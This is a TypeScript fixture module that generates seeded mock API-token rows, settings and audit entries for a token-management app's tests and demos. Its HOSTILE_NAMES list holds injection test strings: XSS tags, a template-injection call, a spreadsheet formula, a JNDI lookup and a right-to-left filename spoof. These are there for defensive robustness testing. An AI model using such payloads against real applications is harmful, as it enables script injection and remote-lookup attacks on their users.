// Rows, people and settings for tests, screenshots and `npm run dev` with `?mock`. Everything is made from
// a seed, so two runs show the same tokens.

import type { AuditRow, Person, Platform, Policy, Settings, TokenRow, TokenStatus, TokenUses } from './bindings';

const BASE62 = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';
const DAY = 86_400_000;
const HOUR = 3_600_000;
const MINUTE = 60_000;

/** Every group there is, in its fixed order. */
export const GROUPS = ['Synchronizer', 'User', 'Moderator', 'Admin', 'SiteAdmin', 'Recognizer'];

/** Every scope that can be chosen. */
export const SCOPES = ['read', 'write'];

/** The variable that tokens go to unless another is named. */
export const VARIABLE = 'TYCHODATA_OSPREY_APITOKEN';

/** How many rows of each kind the large list holds: 10,000 in all. */
export const TEN_THOUSAND = { active: 8714, soon: 314, expired: 602, revoked: 370 };

/** Numbers between 0 and 1 that are the same for the same seed (mulberry32). */
export function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

/** `length` characters of base62. */
export function base62(length: number, random: () => number): string {
  let text = '';
  for (let at = 0; at < length; at += 1) text += BASE62[Math.floor(random() * 62)];
  return text;
}

/** An instant as it travels: RFC 3339 in UTC, to the second. */
export function instant(milliseconds: number): string {
  return new Date(milliseconds).toISOString().replace(/\.\d{3}Z$/, 'Z');
}

/** The settings that a new installation has. */
export function initialSettings(): Settings {
  return {
    theme: 'system',
    textSize: 100,
    density: 'comfortable',
    motion: 'system',
    language: null,
    clipboardSeconds: 60,
    revealSeconds: 30,
    lockMinutes: null,
    defaultDays: 90,
    defaultGroups: ['Synchronizer', 'User'],
    variable: VARIABLE,
    singleKeyShortcuts: true,
    hardwareAcceleration: false,
    recordEveryUse: false,
    verifierPort: 7443,
    verifierAddress: '127.0.0.1',
    verifierNames: [],
    verifierKeysInQuery: false,
    verifierWithWindow: false,
    remindDays: [30, 7, 1],
    remindOnDesktop: true,
    tray: true,
    endpoint: 'localhost:7443',
    authStyle: 'bearer',
  };
}

/** The policy that a new installation has. */
export function initialPolicy(): Policy {
  return { maxDays: 3650, neverAllowed: true };
}

/** The person at the keyboard, with the account as the system writes it. */
export function personOn(platform: Platform): Person {
  const account = platform === 'windows' ? 'PLANT7\\pi-admin' : 'pi-admin@plant7';
  return { name: 'pi-admin', account, groups: [...GROUPS] };
}

/** What a row is made from; everything left out gets a plain value. */
export interface RowSeed {
  /** The name. */
  name: string;
  /** Where it stands. */
  status?: TokenStatus;
  /** Days until it ends, negative for the past; null: never. */
  endsInDays?: number | null;
  /** Days since it was made. */
  ageDays?: number;
  /** Minutes since it was last accepted; null: never. */
  usedMinutesAgo?: number | null;
  /** From where. */
  usedFrom?: string | null;
  refused?: number;
  /** Minutes since it came unencrypted. */
  exposedMinutesAgo?: number;
  /** Groups. */
  groups?: string[];
  /** Scopes. */
  scopes?: string[];
  /** The owner; null for a company token. */
  user?: string | null;
  /** The variable that it was put into. */
  variable?: string | null;
}

/** One row at the hour `now`. */
export function makeRow(seed: RowSeed, now: number, random: () => number): TokenRow {
  const ends = seed.endsInDays === undefined ? 60 : seed.endsInDays;
  const used = seed.usedMinutesAgo === undefined ? null : seed.usedMinutesAgo;
  return {
    id: base62(16, random),
    name: seed.name,
    prefix: `tdk_${base62(16, random)}`,
    last4: base62(4, random),
    status: seed.status ?? 'active',
    user: seed.user === undefined ? 'pi-admin' : seed.user,
    owner: seed.user === undefined ? 'pi-admin@plant7' : seed.user,
    blocked: false,
    groups: seed.groups ?? ['Synchronizer', 'User'],
    scopes: seed.scopes ?? [],
    createdAt: instant(now - (seed.ageDays ?? 30) * DAY),
    createdBy: 'pi-admin',
    issuedAt: instant(now - (seed.ageDays ?? 30) * DAY),
    expiresAt: ends === null ? null : instant(now + ends * DAY),
    lastUsedAt: used === null ? null : instant(now - used * MINUTE),
    lastUsedFrom: used === null ? null : (seed.usedFrom ?? '127.0.0.1 · curl'),
    refused: seed.refused ?? 0,
    exposedAt: seed.exposedMinutesAgo === undefined ? null : instant(now - seed.exposedMinutesAgo * MINUTE),
    retiring: null,
    variable: seed.variable ?? null,
    rev: 1,
  };
}

/** The uses that a row tells of, in full. */
export function usesOf(row: TokenRow): TokenUses {
  const [address = '', program = null] = row.lastUsedFrom?.split(' · ') ?? [];
  const last = row.lastUsedAt === null ? null : { at: row.lastUsedAt, address, scheme: 'bearer', program };
  const why = row.exposedAt !== null ? 'exposed' : row.status === 'active' ? 'forbidden' : row.status;
  return {
    count: last === null ? 0 : 1204,
    last,
    refused: row.refused === 0 || last === null ? [] : [{ why, last, count: row.refused }],
    recorded: [],
  };
}

/** A handful of tokens, one for every look that a row can have. */
export function fewRows(now: number): TokenRow[] {
  const random = seeded(7);
  const rows = FEW.map((seed) => makeRow(seed, now, random));
  const rotated = rows[1];
  if (rotated) {
    rotated.retiring = {
      prefix: `tdk_${base62(16, random)}`,
      last4: base62(4, random),
      endsAt: instant(now + 22 * HOUR),
      untilSeen: true,
      usedBy: [
        { at: instant(now - 12 * 60_000), address: '10.20.7.31', scheme: 'bearer', program: 'nightly.py' },
        { at: instant(now - 3 * HOUR), address: '127.0.0.1', scheme: 'basic', program: null },
      ],
    };
  }
  return rows;
}

const FEW: RowSeed[] = [
  {
    name: 'PI Scanner Token',
    endsInDays: 201,
    usedMinutesAgo: 190,
    scopes: ['write'],
    groups: ['Synchronizer'],
    variable: VARIABLE,
  },
  {
    name: 'Nightly sync',
    endsInDays: 6,
    ageDays: 84,
    usedMinutesAgo: 1500,
    usedFrom: '10.20.7.31',
    scopes: ['read', 'write'],
  },
  { name: 'Quality gate runner', endsInDays: 0.3, ageDays: 89.7, usedMinutesAgo: 12, usedFrom: 'ci-runner-04' },
  { name: 'Grafana read-only', endsInDays: null, usedMinutesAgo: 1, scopes: ['read'], groups: ['User'] },
  { name: 'Laboratory balance, building 3', endsInDays: 89, ageDays: 1, usedMinutesAgo: null },
  {
    name: 'Historian export – plant 7',
    endsInDays: 45,
    usedMinutesAgo: 60 * 24 * 12,
    user: null,
    groups: ['Synchronizer', 'Moderator', 'Admin'],
  },
  { name: 'Maintenance tablet', status: 'paused', endsInDays: 30, usedMinutesAgo: 60 * 24 * 3 },
  {
    name: 'Old plugin',
    status: 'expired',
    endsInDays: -51,
    ageDays: 416,
    usedMinutesAgo: 60 * 24 * 90,
    refused: 14,
    groups: ['Admin'],
  },
  {
    name: 'Contractor notebook',
    status: 'revoked',
    endsInDays: 100,
    ageDays: 20,
    usedMinutesAgo: 60 * 24 * 15,
    usedFrom: '192.0.2.18',
  },
];

const WORDS = [
  'Scanner',
  'Sync',
  'Export',
  'Gateway',
  'Backup',
  'Report',
  'Runner',
  'Plugin',
  'Historian',
  'Balance',
  'Camera',
  'Printer',
];
const PLACES = [
  'north',
  'south',
  'plant 7',
  'plant 9',
  'laboratory',
  'dock',
  'line 2',
  'line 14',
  'archive',
  'warehouse',
];

/** 10,000 rows in a shuffled order, {@link TEN_THOUSAND} of each kind, or so many times as many. */
export function manyRows(now: number, times = 1): TokenRow[] {
  const random = seeded(41);
  const kinds = Object.entries(TEN_THOUSAND).flatMap(([kind, count]) =>
    Array.from({ length: count * times }, () => kind),
  );
  for (let at = kinds.length - 1; at > 0; at -= 1) {
    const other = Math.floor(random() * (at + 1));
    [kinds[at], kinds[other]] = [kinds[other] as string, kinds[at] as string];
  }
  return kinds.map((kind, index) => makeRow(manySeed(kind, index, random), now, random));
}

function manySeed(kind: string, index: number, random: () => number): RowSeed {
  const pick = (list: string[]) => list[Math.floor(random() * list.length)] as string;
  const seed: RowSeed = {
    name: `${pick(WORDS)} ${pick(PLACES)} ${String(index + 1)}`,
    ageDays: 100 + random() * 400,
    usedMinutesAgo: random() < 0.15 ? null : random() * 60 * 24 * 60,
    groups: GROUPS.filter(() => random() < 0.35),
    scopes: SCOPES.filter(() => random() < 0.4),
    user: random() < 0.1 ? null : 'pi-admin',
  };
  if (seed.groups?.length === 0) seed.groups = ['Synchronizer'];
  if (kind === 'active') return { ...seed, endsInDays: random() < 0.08 ? null : 30 + random() * 700 };
  if (kind === 'soon') return { ...seed, endsInDays: 1.2 + random() * 12 };
  if (kind === 'expired') return { ...seed, status: 'expired', ageDays: 500, endsInDays: -1 - random() * 400 };
  return { ...seed, status: 'revoked', endsInDays: random() * 300 };
}

/** Names that break careless screens. */
export const HOSTILE_NAMES = [
  'W'.repeat(80),
  '量測儀器測試站'.repeat(11) + '量測儀',
  'ماسح المصنع رقم ٧ – للقراءة فقط',
  'mixed عربي and עברית and English 42',
  `Z${'\u0301\u0302\u0303\u0310\u0315'.repeat(12)}algo`,
  '<img src=x onerror="globalThis.__pwned=1">',
  '"><script>globalThis.__pwned=1</script>',
  '{{constructor.constructor("globalThis.__pwned=1")()}}',
  'first line\nsecond line\ttab',
  '\u202Egnp.exe\u202C right-to-left override',
  '👩‍🔬👨‍👩‍👧‍👦🏭 laboratory',
  'zero\u200Bwidth\u2060joiner\uFEFF',
  '   spaces   inside   ',
  'O\'Brien & Söhne "Prüfstand" – 100 %',
  '=HYPERLINK("https://example.invalid","x")',
  '%s %d %n ${jndi:ldap://example.invalid/a}',
];

/** One row for each of {@link HOSTILE_NAMES}. */
export function hostileRows(now: number): TokenRow[] {
  const random = seeded(99);
  return HOSTILE_NAMES.map((name, index) =>
    makeRow(
      {
        name,
        endsInDays: 40 + index,
        usedMinutesAgo: 90,
        usedFrom: index % 2 ? name.slice(0, 60) : 'host',
        groups: [...GROUPS],
      },
      now,
      random,
    ),
  );
}

/** The audit trail that the fixtures start with, newest first. */
export function auditOf(rows: TokenRow[], now: number): AuditRow[] {
  const newest = [...rows].sort((a, b) => b.createdAt.localeCompare(a.createdAt)).slice(0, 5);
  return newest.map((row, index) => ({
    seq: newest.length - index,
    at: instant(now - (index + 1) * 47 * MINUTE),
    event: index === 1 ? 'token.revoked' : 'token.created',
    tokenId: row.id,
    tokenName: row.name,
    actor: 'pi-admin',
    source: index === 2 ? 'terminal' : 'window',
    facts: {},
  }));
}
